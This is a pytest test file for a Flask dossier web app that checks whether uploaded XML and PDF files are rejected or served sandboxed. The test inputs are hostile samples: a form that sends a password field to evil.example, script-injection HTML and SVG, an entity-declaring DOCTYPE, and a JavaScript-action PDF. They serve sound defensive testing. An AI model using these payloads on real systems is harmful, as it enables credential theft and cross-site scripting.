"""An uploaded file is data, never a page of this site: an ``xml`` file must be a real XML document
(no HTML or SVG page, no DOCTYPE), and a PDF that carries scripts or actions is downloaded, not
opened inline; every file is served with a sandboxing Content-Security-Policy."""

from __future__ import annotations

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.webapp.conftest import Api
from tests.webapp.test_bad_input import DECLARATION, _upload, unchanged
from tests.webapp.test_workspace import _login
from webapp.dossiers.documents import is_active_pdf

COMPONENT = "to_khai"  # khai-sinh's declaration: pdf or xml


@pytest.fixture()
def dossier(api: Api) -> dict:
    status, body = api.post("/dossiers", "an", json={"procedure": "khai-sinh", "data": DECLARATION})
    assert status == 201
    return body


@pytest.mark.parametrize("content", [
    b'<html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example"><input name="pw"/>'
    b'</form></body></html>',
    b"<html><body><script>alert(1)</script></body></html>",
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]><x>&e;</x>',
    b"<not closed",
])
def test_an_xml_upload_must_be_a_real_xml_document(api: Api, app: Flask, dossier: dict, content: bytes) -> None:
    with unchanged(app):
        status, body = _upload(api, dossier["code"], "to-khai.xml", content, component=COMPONENT)
    assert status == 422, body
    assert body["error"]["code"] == "content_mismatch"


def test_a_real_xml_document_is_accepted_and_downloaded_sandboxed(
    api: Api, dossier: dict, client: FlaskClient,
) -> None:
    xml = '<?xml version="1.0" encoding="UTF-8"?><ToKhai><HoTen>Nguyễn Văn An</HoTen></ToKhai>'.encode()
    status, document = _upload(api, dossier["code"], "to-khai.xml", xml, component=COMPONENT)
    assert status == 201, document
    assert _login(client, "tiepnhan")[0] == 302
    response = client.get(f"/can-bo/giay-to/{document['id']}")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Content-Security-Policy"].startswith("sandbox")


ACTIVE_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
PLAIN_PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</BaseFont/AAAAAA+DejaVuSans>>endobj\n%%EOF"


def test_a_pdf_with_scripts_is_downloaded_not_opened(api: Api, dossier: dict, client: FlaskClient) -> None:
    assert is_active_pdf(ACTIVE_PDF) and not is_active_pdf(PLAIN_PDF)
    assert _login(client, "tiepnhan")[0] == 302
    for content, disposition in ((ACTIVE_PDF, "attachment"), (PLAIN_PDF, "inline")):
        status, document = _upload(api, dossier["code"], "to-khai.pdf", content, component=COMPONENT)
        assert status == 201, document
        response = client.get(f"/can-bo/giay-to/{document['id']}")
        assert response.headers["Content-Disposition"].startswith(disposition)
        assert "sandbox" in response.headers["Content-Security-Policy"]
